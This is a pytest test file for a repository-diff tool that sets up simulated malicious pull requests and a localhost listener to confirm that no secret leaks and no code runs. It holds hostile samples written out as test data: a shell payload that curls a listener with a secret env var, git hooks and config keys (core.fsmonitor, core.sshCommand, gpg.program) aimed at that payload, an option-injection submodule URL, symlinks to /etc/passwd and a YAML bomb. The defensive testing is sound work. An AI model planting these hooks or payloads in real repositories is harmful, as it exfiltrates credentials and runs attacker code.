"""A malicious pull request, checked with `diff --base`: no call elsewhere, no secret out, no code run.

Row 95, and G17 of the fault model. The repository is a real one with a definition, a configuration and a credential
command of its own; the platform that is merged answers on one port of this machine, and a trap listens on another. Each
attack is a branch of somebody who may change every file.
"""

from __future__ import annotations

import json
import os
import socket
import stat
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.bad_inputs.bench import TOKEN, Bench, Benches, Ran
from tests.bad_inputs.raw_server import RawServer, platform_of
from tests.bad_inputs.rows import shows

CONFIG = """\
apiVersion: datakeel/v1
source: {path: .}
schemas: [platforms]
targets:
  lake:
    platform: shop
    server: SERVER
    credentials: {token: {exec: [./token.sh]}}
    secrets: {door: {env: DOOR_KEY}}
    folder: manifests
    prune: true
    budget: off
"""
SCRIPT = f"#!/bin/sh\necho {TOKEN}\n"
SCHEMA = {"type": "object", "properties": {"size": {"type": "integer", "maximum": 5}}, "additionalProperties": False}
DOOR = "door-canary-91f3"


def job(name: str, size: object = 1) -> str:
    return f"apiVersion: shop/v1\nkind: Job\nmetadata: {{name: {name}}}\nspec: {{size: {size}}}\n"


class Trap:
    """Counts whoever connects, and keeps what they send first."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self.address = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                taken, _ = self._socket.accept()
            except OSError:
                return
            with taken:
                taken.settimeout(1)
                self.heard.append(b"connected")
                try:
                    self.heard.append(taken.recv(65536))
                except OSError:
                    self.heard.append(b"")

    def close(self) -> None:
        self._socket.close()


class Yard:
    """The repository as it is merged, the platform behind it, and the trap."""

    def __init__(self, bench: Bench) -> None:
        self.bench = bench
        self.platform = RawServer()
        self.trap = Trap()
        self.ran = bench.folder / "ran"
        bench.environment["DOOR_KEY"] = DOOR
        bench.write("datakeel.yaml", CONFIG.replace("SERVER", self.platform.address))
        bench.write("token.sh", SCRIPT).chmod(0o755)
        bench.write("platforms/shop/platform.yaml", platform_of({"Job": ""}))
        bench.write("platforms/shop/job.schema.json", json.dumps(SCHEMA, indent=1) + "\n")
        bench.write(".gitignore", ".datakeel/\n")
        for name in ("one", "two", "three"):
            bench.write(f"manifests/{name}.yaml", job(name))
            self.platform.objects["Job"][name] = {"name": name, "size": 1}
        bench.commit("merged")

    def branch(self, name: str) -> None:
        self.bench.git("checkout", "-q", "-f", "main")
        self.bench.git("clean", "-qfdx")
        self.bench.git("checkout", "-q", "-B", name)

    def commit(self) -> None:
        """With what git itself would not add by hand, such as an ignored file."""
        self.bench.git("add", "-A", "-f")
        self.bench.git("commit", "-q", "--allow-empty", "-m", "a small improvement")

    def diff(self, *words: str) -> Ran:
        self.platform.forget()
        return self.bench.run("diff", "--base", "main", *words)

    def config(self, old: str, new: str) -> None:
        text = (self.bench.repository / "datakeel.yaml").read_text(encoding="utf-8")
        assert text.count(old) == 1, old
        self.bench.write("datakeel.yaml", text.replace(old, new))

    def touching(self) -> str:
        """A script that leaves a trace."""
        return f"#!/bin/sh\ntouch {self.ran}\ncurl -s {self.trap.address}/$DOOR_KEY\necho {TOKEN}\n"

    def close(self) -> None:
        self.platform.close()
        self.trap.close()


@pytest.fixture(scope="module")
def yard(benches: Benches) -> Iterator[Yard]:
    made = Yard(benches.new())
    yield made
    made.close()


@dataclass(frozen=True, slots=True)
class Attack:
    """``told`` are codes of what is told first; ``status`` what the check ends with; ``asked`` which jobs are read.

    The work tree is checked; ``in_git`` has the commit itself checked as well, where it says more.
    """

    name: str
    does: Callable[[Yard], None]
    told: tuple[str, ...] = ()
    status: int = 0
    asked: tuple[str, ...] = ("one",)
    says: tuple[str, ...] = field(default=())
    in_git: bool = False


def _link(yard: Yard, path: str, aim: str) -> None:
    there = yard.bench.repository / path
    if there.is_dir():
        for file in sorted(there.rglob("*"), reverse=True):
            file.rmdir() if file.is_dir() else file.unlink()
        there.rmdir()
    there.unlink(missing_ok=True)
    there.symlink_to(aim)


def _evil_definition(yard: Yard, folder: str = "platforms/shop") -> None:
    """It would send the credential, and ask for other things, in places that leak."""
    text = platform_of({"Job": ""}).replace("GET /Job/{name}", "GET /Job/{name}/../../steal")
    yard.bench.write(f"{folder}/platform.yaml", text.replace("header: X-Key", "query: key"))


def _filters(yard: Yard) -> None:
    """What git would run at a checkout, were it told to."""
    yard.bench.write("payload.sh", yard.touching()).chmod(0o755)
    yard.bench.write(".gitattributes", "*.yaml filter=evil diff=evil ident eol=crlf\n*.sh filter=evil\n")
    yard.bench.write(".gitmodules", '[submodule "x"]\n path = manifests/x\n url = -u./payload.sh\n')


def _poison(yard: Yard) -> None:
    """Hooks, and commands in the repository's own settings: git obeys them, wherever it is not told otherwise."""
    hooks = yard.bench.repository / ".git/hooks"
    hooks.mkdir(exist_ok=True)
    for hook in ("post-checkout", "pre-commit", "reference-transaction", "post-index-change", "fsmonitor-watchman"):
        (hooks / hook).write_text(yard.touching(), encoding="utf-8")
        (hooks / hook).chmod(0o755)
    payload = str(yard.bench.repository / "payload.sh")
    for key, value in {
        "filter.evil.smudge": payload,
        "filter.evil.clean": payload,
        "diff.evil.textconv": payload,
        "core.fsmonitor": payload,
        "core.sshCommand": payload,
        "uploadpack.packObjectsHook": payload,
        "gpg.program": payload,
        "log.showSignature": "true",
        "core.pager": payload,
        "pager.log": payload,
    }.items():
        yard.bench.git("config", key, value)


def _large_file(yard: Yard) -> None:
    """A pointer, and where git-lfs would fetch what it points to."""
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 5\n"
    yard.bench.write("manifests/big.yaml", pointer)
    yard.bench.write(".gitattributes", "*.yaml filter=lfs diff=lfs merge=lfs -text\n")
    yard.bench.write(".lfsconfig", f"[lfs]\n\turl = {yard.trap.address}/lfs\n")


def _submodule(yard: Yard) -> None:
    yard.bench.write(".gitmodules", f'[submodule "x"]\n\tpath = manifests/x\n\turl = {yard.trap.address}/x.git\n')
    yard.bench.git("update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},manifests/x")
    (yard.bench.repository / "manifests/x").mkdir(exist_ok=True)


def _committed_state(yard: Yard) -> None:
    """A store of theirs, in which everything of ours would be theirs."""
    yard.bench.run("apply", "--yes", "-q", DATAKEEL_STATE=str(yard.bench.repository / ".datakeel/state.db"))
    assert (yard.bench.repository / ".datakeel/state.db").exists()


def _bomb() -> str:
    levels = "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 10))
    return f"a0: &a0 [lol]\n{levels}"


ATTACKS = (
    Attack("server", lambda yard: yard.config(yard.platform.address, yard.trap.address), ("config-changed",),
           says=("target lake: `server` changed", "+ \"http://127.0.0.1:"), in_git=True),
    Attack("proxy", lambda yard: yard.config("    budget: off", f"    budget: off\n    proxy: {yard.trap.address}"),
           ("config-changed",), says=("target lake: `proxy` is new",)),
    Attack("source", lambda yard: yard.config("{path: .}", f"{{url: 'https://127.0.0.1:{yard.trap.port}/x.git'}}"),
           ("config-changed", "config-changed"), says=("`source.url` is new",)),
    Attack("new target", lambda yard: yard.bench.write("datakeel.yaml", CONFIG.replace(
        "SERVER", yard.platform.address) + f"  loot:\n    platform: shop\n    server: {yard.trap.address}\n"
        "    credentials: {token: {exec: [./token.sh]}}\n    folder: loot\n"), ("config-changed",),
        says=("target loot is new: nothing of it is planned or asked for before it is merged",)),
    Attack("credential command", lambda yard: yard.config("[./token.sh]", "[sh, -c, './loot.sh']"),
           ("config-changed",), says=("`credentials.token` changed",)),
    Attack("credential script", lambda yard: yard.bench.write("token.sh", yard.touching())),
    Attack("credential script as a link", lambda yard: _link(yard, "token.sh", "payload.sh")),
    Attack("definition", _evil_definition, ("definition-changed",), says=("+ auth: {key: {query: key",), in_git=True),
    Attack("extends elsewhere", lambda yard: yard.bench.write(
        "platforms/shop/platform.yaml", "platform: shop\nversion: v1\nformat: 1\nextends: dataos/v1\n"),
        ("definition-changed",), in_git=True),
    Attack("definition is a folder elsewhere", lambda yard: (
        _evil_definition(yard, "loot/shop"), _link(yard, "platforms", "loot"))[0],
        ("definition-changed", "definition-changed"), says=("the definition is removed",), in_git=True),
    Attack("other definitions", lambda yard: (
        _evil_definition(yard, "loot/shop"), yard.config("[platforms]", "[loot]"))[0],
        ("config-changed",), says=("`schemas` changed",)),
    Attack("schema", lambda yard: yard.bench.write(
        "platforms/shop/job.schema.json", json.dumps(SCHEMA, indent=1).replace("5", "500") + "\n"),
        ("definition-changed",), says=("+    \"maximum\": 500",)),
    Attack("configuration is a link", lambda yard: _link(yard, "datakeel.yaml", "/etc/passwd"), ("config-changed",),
           says=("the configuration is removed",)),
    Attack("configuration is broken", lambda yard: yard.bench.write("datakeel.yaml", "{{ no }}\n"),
           ("config-changed",), says=("cannot be read any more",)),
    Attack("state", _committed_state, in_git=True),
    Attack("link out", lambda yard: _link(yard, "manifests/passwd.yaml", "/etc/passwd"), status=3, in_git=True),
    Attack("folder is a link out", lambda yard: _link(yard, "manifests", "/etc"), status=3,
           asked=("one", "three", "two")),
    Attack("bomb", lambda yard: yard.bench.write("manifests/bomb.yaml", _bomb()), status=3, in_git=True),
    Attack("LFS pointer", _large_file, status=3, in_git=True),
    Attack("hooks and filters", _filters, in_git=True),
    Attack("submodule", _submodule, status=3, in_git=True),
    Attack("secret in a name", lambda yard: yard.bench.write("manifests/name.yaml", job("${DOOR_KEY}")), status=3,
           in_git=True),
    Attack("secret asked for", lambda yard: yard.bench.write(
        "manifests/name.yaml", job("steal", "{env: DOOR_KEY}") + "---\n" + job("steal2", "{secretRef: token}")),
        status=3),
    Attack("secret of the target in a name", lambda yard: yard.bench.write(
        "manifests/name.yaml", "apiVersion: shop/v1\nkind: Job\nmetadata: {name: {secretRef: door}}\nspec: {}\n"),
        status=3),
)  # fmt: skip


@shows(95)
@pytest.mark.row("G17")
@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_a_malicious_pull_request_gets_no_call_no_secret_and_no_code_run(attack: Attack, yard: Yard) -> None:
    yard.branch("attack")
    attack.does(yard)
    if attack.name != "folder is a link out":
        yard.bench.write("manifests/one.yaml", job("one", 2))
    yard.commit()
    if attack.name == "hooks and filters":
        _poison(yard)
    yard.ran.unlink(missing_ok=True)
    try:
        told = yard.bench.folder / "plan.json"
        ran = yard.diff("-o", "text", "-o", f"json={told}")
        _assert_safe(ran, attack, yard)
        unmerged = json.loads(told.read_text(encoding="utf-8"))["unmerged"]
        assert [each["code"] for each in unmerged] == list(attack.told)
        assert ran.out.startswith("changes the agent itself") == bool(attack.told)
        for part in attack.says:
            assert part in ran.out
        if attack.in_git:
            _assert_safe(yard.diff("--revision", "attack"), attack, yard)
    finally:
        _cleanse(yard)


def _assert_safe(ran: Ran, attack: Attack, yard: Yard) -> None:
    at_hand = "--revision" not in ran.words  # an empty folder on disk does not say that it is a submodule
    ran.sound(0 if attack.name == "submodule" and at_hand else attack.status)
    assert yard.trap.heard == [], yard.trap.heard
    assert not yard.ran.exists(), "code of the pull request ran"
    assert DOOR not in ran.out + ran.err
    assert not any(DOOR in head for head in yard.platform.heads)
    assert sorted(yard.platform.requests) == [f"GET /Job/{name}" for name in attack.asked]
    assert all(f"X-Key: {TOKEN}".lower() in head.lower() for head in yard.platform.heads)


def _cleanse(yard: Yard) -> None:
    config = yard.bench.repository / ".git/config"
    lines = config.read_text(encoding="utf-8").splitlines()
    keep = [line for line in lines if "payload" not in line and "showSignature" not in line]
    config.write_text("\n".join(keep) + "\n", encoding="utf-8")
    for hook in (yard.bench.repository / ".git/hooks").glob("*"):
        hook.unlink()
    yard.ran.unlink(missing_ok=True)


def test_what_is_merged_is_used_to_the_letter(yard: Yard) -> None:
    """The same repository without malice: the trap and the trace would be seen if anything led there."""
    yard.branch("good")
    yard.bench.write("token.sh", yard.touching()).chmod(0o755)
    yard.config(yard.platform.address, yard.trap.address)
    yard.commit()
    ran = yard.bench.run("diff")
    assert yard.ran.exists(), "the script leaves its trace where it is run"
    assert yard.trap.heard, "the trap hears whoever comes"
    assert ran.status != 0
    yard.trap.heard.clear()
    _cleanse(yard)


def test_a_configuration_that_nobody_merged_gets_no_call(benches: Benches) -> None:
    bench = benches.new()
    bench.write("README.md", "nothing yet\n")
    (bench.repository / "datakeel.yaml").unlink()
    bench.commit("merged")
    bench.git("checkout", "-q", "-b", "first")
    bench.write("datakeel.yaml", CONFIG.replace("SERVER", bench.server).replace("platform: shop", "platform: dataos"))
    bench.write("manifests/one.yaml", "name: one\nversion: v1\ntype: depot\ndepot: {type: S3}\n")
    bench.write("platforms/x/platform.yaml", platform_of({"Job": ""}).replace("shop", "x"))
    bench.commit("datakeel")
    ran = bench.run("diff", "--base", "main")
    ran.sound(78)
    assert "config-unmerged" in ran.err
    assert ran.requests == ()


def test_files_that_a_credential_is_read_from_are_those_of_the_base(benches: Benches, tmp_path: Path) -> None:
    """A link that the pull request puts in the place of a file leads nowhere."""
    yard = Yard(benches.new())
    try:
        yard.branch("main")
        yard.config("{exec: [./token.sh]}", "{file: keys/token}")
        yard.bench.write("keys/token", TOKEN + "\n").chmod(0o600)
        yard.bench.commit("a file of ours")
        yard.branch("attack")
        loot = tmp_path / "loot"
        loot.write_text("loot-canary\n", encoding="utf-8")
        loot.chmod(0o600)
        _link(yard, "keys/token", str(loot))
        yard.bench.write("manifests/one.yaml", job("one", 2))
        yard.commit()
        assert stat.S_ISLNK(os.lstat(yard.bench.repository / "keys/token").st_mode)
        yard.diff().sound(0)
        assert all(f"x-key: {TOKEN}" in head.lower() for head in yard.platform.heads)
        assert yard.platform.requests == ["GET /Job/one"]
    finally:
        yard.close()
